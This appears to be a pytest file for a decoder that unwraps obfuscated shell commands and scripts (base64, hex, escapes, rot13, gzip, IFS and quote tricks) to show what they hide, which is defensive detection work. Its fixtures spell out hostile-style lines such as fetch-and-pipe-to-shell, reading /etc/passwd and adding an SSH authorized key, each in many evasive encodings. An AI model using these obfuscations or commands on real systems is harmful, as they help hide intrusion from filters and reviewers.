"""What the decoders show of obfuscated payloads and command lines."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import lzma
import zlib

import pytest

from esr_tui.divergence.decode import layers

PLAIN = b"curl -s http://127.0.0.1:8000/x.sh | sh"
B64 = base64.b64encode(PLAIN)
FLAT = zlib.compress(PLAIN)[2:-4]


def pairs(text: bytes) -> list[tuple[str, str]]:
    return [(layer.codec, layer.text.rstrip("\n")) for layer in layers(text)]


SHELL_LINES: list[tuple[bytes, str, str]] = [
    (b"echo " + B64 + b" | base64 --decode | sh", "base64", PLAIN.decode()),
    (b"echo aWQ= | base64 -d|sh", "base64", "id"),
    (b"echo aWQK | /usr/bin/base64 -di | busybox sh", "base64", "id"),
    (b"base64 -d <<< aWQ= | sh", "base64", "id"),
    (b"base64 -d <<E | sh\n" + B64[:30] + b"\n" + B64[30:] + b"\nE\n", "base64", PLAIN.decode()),
    (b"eval $(echo " + B64 + b"|base64 -d)", "base64", PLAIN.decode()),
    (b"bash <(echo " + B64 + b"|base64 -d)", "base64", PLAIN.decode()),
    (b"sh -c 'echo aWQ= | base64 -d | sh'", "base64", "id"),
    (b"echo 'Y3VybCAtcyBo''dHRwOi8veA=='|base64 -d|sh", "base64", "curl -s http://x"),
    (b"x=Y3VybCBo; y=dHRwOi8veA==; echo $x$y | base64 -d | sh", "base64", "curl http://x"),
    (b"echo 6964 | xxd -r -p | sh", "hex", "id"),
    (b"xxd -r -p <<< 77686f616d69|sh", "hex", "whoami"),
    (b"printf '\\151\\144' | sh", "escapes", "id"),
    (b"printf '\\x69\\x64' | sh", "escapes", "id"),
    (b"printf '%b' '\\0151\\0144' | sh", "escapes", "id"),
    (b"echo -e '\\x69\\x64' | bash", "escapes", "id"),
    (b"bash -c \"$(printf '\\x77\\x68\\x6f\\x61\\x6d\\x69')\"", "escapes", "whoami"),
    (b"$'\\x69\\x64'", "ansi-c", "id"),
    (b"$'\\151d'", "ansi-c", "id"),
    (b"echo di | rev | sh", "reversed", "id"),
    (b"rev <<< 'dwssap/cte/ tac' | sh", "reversed", "cat /etc/passwd"),
    (b"echo 'phey uggc://k' | tr a-z n-za-m | sh", "rot13", "curl http://x"),
    (b"echo 'phey uggc://k' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", "rot13", "curl http://x"),
    (b"echo 'dvsm iuuq' | tr b-za a-z | sh", "tr", "curl http"),
    (b"a=cu;b=rl;$a$b http://x", "expanded", "a=cu;b=rl;curl http://x"),
    (b"bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}", "base64", "id"),
    (b"echo${IFS}aWQ=|base64${IFS}-d|sh", "base64", "id"),
    (b"b=base64; echo aWQ= | $b -d | sh", "base64", "id"),
    (b"bash <<< $(echo aWQ= | base64 -d)", "base64", "id"),
    (b"echo aWQ= | python3 -m base64 -d | sh", "base64", "id"),
    (b"perl -MMIME::Base64 -e 'system decode_base64(\"aWQ=\")'", "base64", "id"),
    (b"echo aWQ= | xargs -I{} sh -c 'echo {} | base64 -d | sh'", "base64", "id"),
    (b'perl -e \'system pack("H*","6964")\'', "hex", "id"),
    (b"perl -e 'exec \"\\x{69}\\x{64}\"'", "escapes", 'exec "id"'),
    (b"awk 'BEGIN{printf \"%c%c\",105,100}' | sh", "chr", "id"),
    (b"printf -v x '\\x69\\x64'; $x", "expanded", "printf -v x '\\x69\\x64'; id"),
    (b"X=id; eval $X", "expanded", "X=id; eval id"),
    (b"a=(i d); ${a[0]}${a[1]}", "expanded", "a=(i d); id"),
    (b"x=xidx; ${x:1:2}", "expanded", "x=xidx; id"),
    (b"x=whZZoami; ${x//Z/}", "expanded", "x=whZZoami; whoami"),
    (b"x=WHOAMI; ${x,,}", "expanded", "x=WHOAMI; whoami"),
    (b"$(echo who)$(echo ami)", "expanded", "whoami"),
    (b"`echo id`", "expanded", "id"),
    (b"cat${IFS}/etc/passwd", "expanded", "cat /etc/passwd"),
    (b"cat$IFS/etc/passwd", "expanded", "cat /etc/passwd"),
    (b"{cat,/etc/passwd}", "expanded", "cat /etc/passwd"),
    (b"w$@ho$@ami", "expanded", "whoami"),
    (b"${HOME:0:1}bin${HOME:0:1}id", "expanded", "/bin/id"),
    (b"c'u'r\"l\" http://x", "unquoted", "curl http://x"),
    (b"wh\\oami", "unquoted", "whoami"),
    (b"\\w\\h\\o\\a\\m\\i", "unquoted", "whoami"),
    (b"who''ami", "unquoted", "whoami"),
    (b"sudo /bin/c'a't /etc/pa''sswd", "unquoted", "sudo /bin/cat /etc/passwd"),
    (b"echo %63%75%72%6c%20http%3a//x", "url", "curl http://x"),
]


@pytest.mark.parametrize(
    ("line", "codec", "text"), SHELL_LINES, ids=[str(case[0])[2:50] for case in SHELL_LINES]
)
def test_a_typed_line_shows_what_it_hides(line: bytes, codec: str, text: str) -> None:
    assert (codec, text) in pairs(line)


PROGRAMS: list[tuple[bytes, str, str]] = [
    (b"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))", "base64", "import os"),
    (b"exec(__import__('base64').b64decode(\n'aW1wb3J0' +\n 'IG9zO29z'))", "base64", "import os;os"),
    (b'exec("\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20os")', "escapes", "import os"),
    (b"exec(b'\\151\\155\\160\\157rt os')", "escapes", "import os"),
    (b"system(chr(105).chr(100))", "chr", "id"),
    (b"exec(chr(0x69)+chr(0x6d)+chr(112)+chr(111)+chr(114)+chr(116))", "chr", "import"),
    (b"eval(String.fromCharCode(99,117,114,108,32,104))", "chr", "curl h"),
    (b"exec(bytes([105,109,112,111,114,116,32,111,115]))", "chr", "import os"),
    (b"import codecs;exec(codecs.decode('vzcbeg bf','rot13'))", "rot13", "import os"),
    (b"exec(bytes.fromhex('696d706f7274206f73'))", "hex", "import os"),
    (b"exec(zlib.decompress(%r))" % zlib.compress(b"import os;os.getpid()"), "zlib", "import os;os.getpid()"),
    (b"exec('so tropmi'[::-1])", "reversed", "import os"),
    (b"python3 -c \"exec('so tropmi'[::-1])\"", "reversed", "import os"),
    (b"dwssap/cte/ tac", "reversed", "cat /etc/passwd"),
    (b"eval(gzinflate(base64_decode('" + base64.b64encode(FLAT) + b"')))", "deflate", PLAIN.decode()),
    (b"#!/bin/sh\ntail -n+3 $0 | gunzip | sh; exit\n" + gzip.compress(PLAIN), "gzip", PLAIN.decode()),
    (b"x = [0x77,0x68,0x6f,0x61,0x6d,0x69,0x20,0x3b]", "hex", "whoami ;"),
    (b"77:68:6f:61:6d:69:20:2d:2d", "hex", "whoami --"),
    (b"00000000: 6375 726c 2068 7474 703a 2f2f 7820 7c20  curl http://x | \n00000010: 7368  sh", "hex",
     "curl http://x | sh"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "codec", "plain"), PROGRAMS, ids=[str(case[0])[2:50] for case in PROGRAMS])
def test_a_program_in_another_language_shows_what_it_hides(text: bytes, codec: str, plain: str) -> None:
    assert (codec, plain) in pairs(text)


@pytest.mark.parametrize(
    ("codec", "data"),
    [
        ("gzip", gzip.compress(PLAIN)),
        ("zlib", zlib.compress(PLAIN)),
        ("xz", lzma.compress(PLAIN)),
        ("bzip2", bz2.compress(PLAIN)),
    ],
)
def test_compressed_data_is_named_and_opened(codec: str, data: bytes) -> None:
    assert pairs(data) == [(codec, PLAIN.decode())]
    assert pairs(b"echo " + base64.b64encode(data) + b"|base64 -d") == [
        ("base64", f"{codec} data, {len(data)} bytes"),
        (codec, PLAIN.decode()),
    ]


def test_layers_follow_one_another_to_the_depth_asked_for() -> None:
    text = PLAIN
    for _ in range(3):
        text = base64.b64encode(gzip.compress(text))
    found = [layer.codec for layer in layers(text, depth=6)]
    assert found == ["base64", "gzip"] * 3
    assert [layer.codec for layer in layers(text)] == ["base64", "gzip", "base64", "gzip", "base64"]
    assert layers(text, depth=0) == ()


def test_rewriting_a_line_costs_no_depth() -> None:
    line = b"a=ba;b=sh;x=" + B64 + b';$a$b -c "$(echo $x|base64 -d)"'
    assert "base64" in [layer.codec for layer in layers(line, depth=1)]


def test_programs_and_unknown_binary_are_named_not_shown() -> None:
    elf = b"\x7fELF\x02\x01\x01" + bytes(300)
    assert pairs(elf) == [("elf", "ELF executable, 307 bytes")]
    assert pairs(base64.b64encode(elf)) == [("base64", "ELF executable, 307 bytes")]
    zstd = b"\x28\xb5\x2f\xfd" + bytes(range(40))
    assert pairs(zstd) == [("zstd", "zstd data, 44 bytes")]


def test_utf_16_is_read_as_text() -> None:
    run = base64.b64encode("curl http://127.0.0.1".encode("utf-16-le"))
    assert pairs(b"pwsh -enc " + run) == [("base64, utf-16", "curl http://127.0.0.1")]


def test_text_that_is_not_ascii_is_found() -> None:
    text = "печать «здравствуйте» и ещё немного слов"
    assert pairs(base64.b64encode(text.encode())) == [("base64", text)]


def test_a_blob_that_was_cut_shows_its_beginning() -> None:
    whole = base64.b64encode(gzip.compress(b"".join(b"echo line %d of many\n" % n for n in range(400))))
    found = layers(whole[: len(whole) // 2])
    assert [layer.codec for layer in found] == ["base64", "gzip"]
    assert found[1].text.startswith("echo line 0 of many\necho line 1 of many\n")


def test_a_key_and_a_token_are_not_programs() -> None:
    token = b"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLXdpdGgtbm9pc2U"
    assert {layer.codec for layer in layers(b"curl -H 'Authorization: Bearer " + token + b"' x")} <= {
        "base64",
        "base64url",
    }
    key = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl me@host"
    assert layers(b"echo '" + key + b"' >> ~/.ssh/authorized_keys") == ()


def test_only_the_lines_that_change_are_shown_of_a_script() -> None:
    script = b"#!/bin/sh\nset -e\ncd /tmp\nc'u'rl http://x\nexit 0\n"
    assert pairs(script) == [("unquoted", "c'u'rl http://x".replace("'", ""))]


def test_rot13_is_tried_only_where_the_text_speaks_of_it() -> None:
    line = codecs.encode("curl http://x | sh", "rot13")
    assert layers(f"echo '{line}'".encode()) == ()
    assert ("rot13", "curl http://x | sh") in pairs(f"echo '{line}' | rot13 | sh".encode())
